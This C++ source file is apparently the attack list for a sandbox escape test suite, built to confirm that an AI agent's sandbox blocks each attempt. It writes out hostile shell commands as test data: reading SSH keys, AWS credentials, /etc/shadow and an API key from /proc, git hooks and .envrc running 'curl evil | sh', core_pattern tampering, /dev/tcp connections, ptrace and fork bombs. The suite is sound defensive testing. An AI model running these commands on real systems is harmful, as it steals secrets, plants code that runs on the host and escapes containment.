#include "escapeattacks.h"

#include <QCryptographicHash>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QFileInfo>
#include <QMultiHash>

#include <cstring>
#include <iterator>

namespace airlock::sandbox::test {

namespace {

// clang-format off
const Attack kAttacks[] = {
    // Secrets on the host
    {"read ~/.ssh of the host user", R"(cat "$HOSTHOME/.ssh/id_ed25519" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"read ~/.aws of the host user", R"(cat "$HOSTHOME/.aws/credentials" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"read ~/.ssh through $HOME", R"({ cat ~/.ssh/id_ed25519 || cat ~/.aws/credentials; } 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"search the file system for keys", R"(find / -xdev \( -name id_ed25519 -o -name credentials \) -not -path '/proc/*' 2>/dev/null | grep -q . && echo ESCAPED || echo BLOCKED)"},
    {"planted key in any /proc environ or cmdline", R"("$ATTACK" grep-proc "$NEEDLE")"},
    {"read /proc/1/environ", R"(tr '\0' '\n' < /proc/1/environ | grep -q '^ANTHROPIC_API_KEY=' && echo ESCAPED || echo BLOCKED)"},
    {"read the launcher's environ by pid", R"(cat /proc/$LAUNCHER/environ 2>/dev/null | grep -q ANTHROPIC && echo ESCAPED || echo BLOCKED)"},
    {"read /etc/shadow", R"(cat /etc/shadow 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"reach the docker socket", R"({ [ -e /var/run/docker.sock ] || [ -e /run/docker.sock ]; } && echo ESCAPED || echo BLOCKED)"},
    {"read the host through /proc/1/root", R"(cat "/proc/1/root$OUTSIDE/secret.txt" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Writing outside the workspace
    {"write into a folder outside the workspace", R"(echo pwned > "$OUTSIDE/secret.txt" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"create a file beside the workspace", R"(echo pwned > "$WS/../beside.txt" 2>/dev/null; echo BLOCKED contained)", Check::NoBesideFile},
    {"write through a planted absolute symlink", R"(echo pwned > "$WS/escape-link" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write through a planted relative symlink", R"(echo pwned > "$WS/rel-link" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"symlink made inside, then written", R"(ln -s "$OUTSIDE/secret.txt" "$WS/made-link" && echo pwned > "$WS/made-link" 2>/dev/null && echo ESCAPED || echo BLOCKED; rm -f "$WS/made-link")"},
    {"append to /etc/hosts", R"(echo '1.2.3.4 evil' >> /etc/hosts 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"replace the shim binary", R"(cp /bin/true /airlock/shim 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"tamper with the control folder", R"(r=BLOCKED; echo x > /airlock/control/evil 2>/dev/null && r=ESCAPED; ln -s / /airlock/control/root 2>/dev/null && r=ESCAPED; for f in /airlock/control/*.sock; do [ -S "$f" ] || continue; rm -f "$f" 2>/dev/null; [ -S "$f" ] || r=ESCAPED; done; echo $r)", Check::ControlIntact},
    {"write a kernel setting in /proc/sys", R"(echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Host root through the kernel: settings that are host-wide and checked by uid, not by capability
    {"write kernel.core_pattern (a pipe the kernel runs as host root)", R"(echo '|/bin/true airlock-escape %p' > /proc/sys/kernel/core_pattern 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::CorePattern},
    {"write back host-wide kernel settings", R"("$ATTACK" sysctl)", Check::CorePattern},
    {"open kernel triggers for writing", R"("$ATTACK" kernel-triggers)"},
    {"plant a set-user-ID program with chmod", R"(cp "$ATTACK" "$SCRATCH/suid-chmod" 2>/dev/null; chmod 6755 "$SCRATCH/suid-chmod" 2>/dev/null; echo "BLOCKED? the host checks")", Check::NoSetuidFile},
    // Files that run on the host later
    {"write .git/hooks/pre-commit", R"(echo 'curl evil | sh' >> "$WS/.git/hooks/pre-commit" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"add a new git hook", R"(echo 'curl evil | sh' > "$WS/.git/hooks/post-checkout" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"move .git/hooks aside", R"(mv "$WS/.git/hooks" "$WS/.git/hooks-old" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"rewrite .git/config", R"(printf '[core]\n\thooksPath = /tmp/evil\n' >> "$WS/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write .envrc", R"(echo 'curl evil | sh' >> "$WS/.envrc" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"write editor tasks", R"(echo '{}' > "$WS/.vscode/tasks.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"plant a repository with an fsmonitor in a subfolder", R"(mkdir "$WS/sub"; mkdir "$WS/sub/.git" 2>/dev/null && printf '[core]\n\tfsmonitor = evil\n' > "$WS/sub/.git/config" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/sub" 2>/dev/null)"},
    {"write agent settings with hooks", R"(mkdir "$WS/.claude" 2>/dev/null; echo '{"hooks":{}}' > "$WS/.claude/settings.json" 2>/dev/null && echo ESCAPED || echo BLOCKED; rmdir "$WS/.claude" 2>/dev/null)"},
    {"write an MCP server list", R"(echo '{"mcpServers":{}}' > "$WS/.mcp.json" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"rename .git away and build a new one", R"(mv "$WS/.git" "$WS/.git-old" 2>/dev/null && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit" && echo ESCAPED || echo BLOCKED)"},
    // Network
    {"reach a listener on the host's loopback", R"(bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT" 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
    {"reach the host's loopback through the proxy bridge", R"(curl -s -m 5 -x http://127.0.0.1:3128 "http://127.0.0.1:$PORT/" >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)", Check::NoConnection},
    {"reach a host abstract unix socket", R"("$ATTACK" abstract "$ABSTRACT")"},
    {"resolve a name", R"(getent hosts example.com >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)"},
    {"connect to a raw IP", R"(bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"fetch through the proxy without a proxy", R"(curl -s -m 5 http://example.com/ >/dev/null 2>&1 && echo ESCAPED || echo BLOCKED)"},
    // Privileges and the kernel
    {"mount a file system", R"("$ATTACK" mount)"},
    {"remount in a nested user namespace", R"("$ATTACK" userns-remount)"},
    {"unshare -Ur", R"(unshare -Ur true 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    {"ptrace the sandbox's first process", R"("$ATTACK" ptrace 1)"},
    {"ptrace the launcher", R"("$ATTACK" ptrace "$LAUNCHER")"},
    {"kill a host process", R"(kill -9 "$VICTIM" 2>/dev/null && echo ESCAPED || echo BLOCKED)", Check::VictimAlive},
    {"setuid and capabilities", R"("$ATTACK" privileges)"},
    {"add a key to the kernel keyring", R"("$ATTACK" syscall keyctl)"},
    {"load a BPF program", R"("$ATTACK" syscall bpf)"},
    {"open a perf event", R"("$ATTACK" syscall perf)"},
    {"load a kernel module", R"("$ATTACK" syscall module)"},
    {"kexec a new kernel", R"("$ATTACK" syscall kexec)"},
    {"open_by_handle_at", R"("$ATTACK" syscall handle)"},
    {"chroot", R"("$ATTACK" syscall chroot)"},
    {"change the hostname", R"("$ATTACK" syscall hostname)"},
    {"inject terminal input", R"("$ATTACK" syscall tiocsti)"},
    {"make a device node", R"(mknod /tmp/sda b 8 0 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
    // Bombs, each bounded
    {"fork bomb", R"("$ATTACK" forkbomb 2000)", Check::None, 60000},
    {"memory bomb", R"(exec "$ATTACK" membomb 1024)", Check::MemoryBomb, 60000},
    {"fill /tmp", R"(i=0; while [ $i -lt 40 ]; do head -c 1048576 /dev/zero > /tmp/fill$i 2>/dev/null || break; i=$((i+1)); done; k=$(du -ck /tmp/fill* | tail -n1 | cut -f1); [ "$k" -le 16500 ] && echo "BLOCKED /tmp full at ${k}k" || echo "ESCAPED ${k}k")", Check::None, 60000},
    {"file-size bomb", R"(head -c 67108864 /dev/zero > "$SCRATCH/big" 2>/dev/null; s=$(stat -c %s "$SCRATCH/big"); rm -f "$SCRATCH/big"; [ "$s" -le 8388608 ] && echo "BLOCKED stopped at $s" || echo "ESCAPED $s")", Check::SmallBigFile, 60000},
    {"output flood", R"(yes airlock)", Check::OutputFlood, 60000},
};
// clang-format on

} // namespace

std::span<const Attack> escapeAttacks()
{
    return kAttacks;
}

QByteArray hashOf(const QString &path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return QByteArray("<missing>");
    QCryptographicHash h(QCryptographicHash::Sha256);
    h.addData(&f);
    return h.result().toHex();
}

void writeFile(const QString &path, const QByteArray &data)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    if (f.open(QIODevice::WriteOnly))
        f.write(data);
}

// Every file below `root` with its hash, links described rather than followed.
QMap<QString, QByteArray> tree(const QString &root)
{
    QMap<QString, QByteArray> out;
    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        const QFileInfo info(path);
        out.insert(path, info.isSymLink() ? "link:" + info.symLinkTarget().toUtf8() : info.isDir() ? QByteArray("dir") : hashOf(path));
    }
    return out;
}

int firstAttack(const char *name)
{
    for (int i = 0; i < int(std::size(kAttacks)); ++i)
        if (std::strcmp(kAttacks[i].name, name) == 0)
            return i;
    return -1;
}

// The process and all its descendants, from one scan of /proc.
QList<qint64> processTree(qint64 root)
{
    QMultiHash<qint64, qint64> children;
    const QStringList pids = QDir(QStringLiteral("/proc")).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
    for (const QString &pid : pids) {
        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
        if (!stat.open(QIODevice::ReadOnly))
            continue;
        const QByteArray text = stat.readAll();
        const qsizetype close = text.lastIndexOf(')');
        const QList<QByteArray> fields = text.mid(close + 2).split(' ');
        if (close > 0 && fields.size() > 1)
            children.insert(fields.at(1).toLongLong(), pid.toLongLong());
    }
    QList<qint64> out{root};
    for (qsizetype i = 0; i < out.size(); ++i)
        out += children.values(out.at(i));
    return out;
}

// "Uid:\treal\teffective\tsaved\tfs" as the host sees it.
QList<qint64> idsOf(qint64 pid, const char *field)
{
    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
    if (!status.open(QIODevice::ReadOnly))
        return {};
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (!line.startsWith(field))
            continue;
        QList<qint64> ids;
        for (const QByteArray &word : line.mid(qstrlen(field)).simplified().split(' '))
            ids << word.toLongLong();
        return ids;
    }
    return {};
}

} // namespace airlock::sandbox::test
